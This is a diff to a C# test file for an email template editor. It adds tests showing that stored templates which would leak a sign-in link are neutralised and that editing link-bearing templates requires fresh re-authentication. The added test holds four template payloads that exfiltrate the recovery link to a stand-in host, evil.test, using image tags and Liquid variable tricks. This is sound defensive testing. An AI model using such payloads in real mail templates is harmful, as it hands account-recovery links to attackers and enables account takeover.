@@ -2,6 +2,7 @@ using Microsoft.EntityFrameworkCore;
 using Microsoft.Extensions.DependencyInjection;
 using OpenCrm.Portal.Accounts;
 using OpenCrm.Portal.Audit;
+using OpenCrm.Portal.Credentials;
 using OpenCrm.Portal.EmailTemplates;
 using OpenCrm.Portal.Mail;
 using OpenCrm.Portal.Sessions;
@@ -162,6 +163,55 @@ public sealed class TemplateEditorTests(PostgresCluster cluster)
         Assert.Equal(1, await portal.EventsAsync<AuditEvent.TemplateFailed>());
 
         Assert.Null(Assert.IsType<TemplateOutcome.Saved>(await Editor(ann).SaveAsync(TemplateCatalogue.Test, new("Ours", "<p>ours</p>", "ours again"), 1)).Now.Failure);
+    }
+
+    /// <summary>Stored before this was refused, or put into the database: the mail goes out without what would send its link away.</summary>
+    [Theory, MemberData(nameof(Both))]
+    public async Task A_stored_template_that_would_send_its_link_away_is_not_used(DatabaseKind database)
+    {
+        await using var portal = await PortalHost.StartAsync(await cluster.NewAsync(database));
+        await using var ann = await AdministratorAsync(portal, "ann");
+        string[] bad = ["<img src=\"https://evil.test/?{{ link }}\">{{ link }}", "https://evil.test/? {{- link }}", "{% assign a = link %}<a href=\"https://evil.test/?{{ a }}\">x</a>", "<img src=\"https://evil.test/{{ recipient_name }}\"> {{ link }}"];
+        for (var i = 0; i < bad.Length; i++)
+        {
+            await using (var work = await portal.BeginAsync())
+            {
+                if (i == 0) work.Add(new MailTemplate { Key = Template.Key, Subject = "Theirs", HtmlBody = bad[i], TextBody = "{{ link }}", ChangedBy = "ann", Version = 1 });
+                else await work.Query<MailTemplate>().ExecuteUpdateAsync(set => set.SetProperty(t => t.HtmlBody, bad[i]));
+                work.Queue(new MailDraft.LostDeviceLink(await work.Query<PortalUser>().SingleAsync(u => u.UserName == "ann"), "TOKEN", work.Now, null));
+                await work.CommitAsync();
+            }
+            var mail = await new Mailbox(portal.PickupFolder).WaitForAsync("ann@example.test", Template.Key, count: i + 1);
+            Assert.Equal("Sign in without your device", mail.Subject);
+            Assert.DoesNotContain("evil", mail.ToString(), StringComparison.Ordinal);
+        }
+        await Eventually.TrueAsync(async () => await portal.EventsAsync<AuditEvent.TemplateFailed>() == bad.Length, "each failure is an event");
+        Assert.Contains("address of a link", (await Editor(ann).ReadAsync(Template.Key))!.Failure!.Why, StringComparison.Ordinal);
+    }
+
+    /// <summary>Spec 3.5. Red while only the page could have asked.</summary>
+    [Theory, MemberData(nameof(Both))]
+    public async Task A_template_with_a_live_link_is_changed_after_a_fresh_proof_only(DatabaseKind database)
+    {
+        await using var portal = await PortalHost.StartAsync(await cluster.NewAsync(database));
+        await using var ann = await AdministratorAsync(portal, "ann");
+        var editor = Editor(ann);
+        Assert.IsType<TemplateOutcome.Saved>(await editor.SaveAsync(Template, Default with { Subject = "Fresh" }, 0));
+        portal.Advance(TimeSpan.FromMinutes(11));
+
+        Assert.IsType<TemplateOutcome.StepUpNeeded>(await editor.SaveAsync(Template, Default with { Subject = "Stale" }, 1));
+        Assert.IsType<TemplateOutcome.StepUpNeeded>(await editor.ResetAsync(Template, 1));
+        Assert.Equal((1, "Fresh"), ((await editor.ReadAsync(Template.Key))!.Version, (await editor.ReadAsync(Template.Key))!.Text.Subject));
+        // What is wrong is told before anybody is asked, and what holds no live link asks nobody.
+        Assert.IsType<TemplateOutcome.Invalid>(await editor.SaveAsync(Template, Default with { Subject = "" }, 1));
+        Assert.IsType<TemplateOutcome.Saved>(await editor.SaveAsync(TemplateCatalogue.Test, new("Ours", "<p>ours</p>", "ours"), 0));
+
+        var stepUp = ann.ServiceProvider.GetRequiredService<StepUp>();
+        Assert.IsType<StepUpOutcome.Proved>(await stepUp.ProveAsync(StepUpFor.ActingAsAdministrator, TestAccounts.Password, null));
+        Assert.IsType<TemplateOutcome.Saved>(await editor.SaveAsync(Template, Default with { Subject = "Proved" }, 1));
+        portal.Advance(TimeSpan.FromMinutes(11));
+        Assert.IsType<TemplateOutcome.StepUpNeeded>(await editor.RestoreAsync(Template, from: 1, version: 2));
+        Assert.Equal(2, await portal.EventsAsync<AuditEvent.TemplateChanged>() - 1);
     }
 
     /// <summary>So many times five thousand characters.</summary>
